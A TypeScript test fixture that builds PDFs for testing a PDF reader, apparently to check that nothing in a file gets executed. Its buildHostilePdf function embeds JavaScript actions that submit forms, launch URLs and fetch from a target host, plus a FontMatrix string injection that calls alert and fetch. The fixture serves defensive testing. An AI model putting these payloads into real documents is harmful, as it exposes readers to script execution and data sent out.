type PdfParts = {
  /** The words of each page; a page is no larger than its words need. */
  pages: readonly string[];
  /** What is added to the catalog, to each page and to the font, in the words of PDF. */
  catalog?: string;
  page?: string;
  font?: string;
  /** Further objects, from number 4 on, and what is added to the trailer. */
  objects?: readonly string[];
  trailer?: string;
};

/** A small PDF with a page for each text, and whatever else a test wants in it. */
export function buildPdf({ pages, catalog = '', page = '', font, objects = [], trailer = '' }: PdfParts): Buffer {
  const first = 4 + objects.length;
  const pageIds = pages.map((_, index) => first + index * 2);
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pageIds.map((id) => `${id} 0 R`).join(' ')}] >>`,
    font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
    ...pages.flatMap((text, index) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 300] /Contents ${first + index * 2 + 1} 0 R
       /Resources << /Font << /F1 3 0 R >> >> ${page} >>`,
      stream(`BT /F1 24 Tf 40 200 Td (${text}) Tj ET`),
    ]),
  ];
  return assembled(all, trailer);
}

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

function assembled(objects: readonly string[], trailer: string): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  const end = text.lastIndexOf('xref\n0 ');
  text += `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${end}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** A PDF that was cut off, so that no reader can draw it. */
export const BROKEN_PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n');

/** A PDF that tries to run scripts, to open and send things, whatever a reader may do with it. */
export function buildHostilePdf(target: string): Buffer {
  const script = `app.alert\\('run'\\); this.submitForm\\('${target}/form'\\); app.launchURL\\('${target}/launched'\\); fetch\\('${target}/fetched'\\);`;
  const action = `<< /S /JavaScript /JS (${script}) >>`;
  const leave = `<< /S /URI /URI (${target}/uri) >>`;
  const widget = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [40 40 200 80] /AA << /PO ${action} /Fo ${action} /K ${action} >> /A ${action} >>`;
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 420 300] /A ${leave} >>`;
  // A matrix that early readers pasted into a function they made.
  const matrix = `[1 0 0 1 0 (1\\); alert\\('run'\\); fetch\\('${target}/matrix'\\);//)]`;
  return buildPdf({
    pages: ['Nothing runs here'],
    catalog: `/OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(run) ${action}] >> >> /AcroForm << /Fields [4 0 R] >>`,
    objects: [widget, link],
    page: `/Annots [4 0 R 5 0 R] /AA << /O ${action} /C ${leave} >>`,
    font: `<< /Type /Font /Subtype /Type1 /BaseFont /Anything /FontMatrix ${matrix} >>`,
  });
}
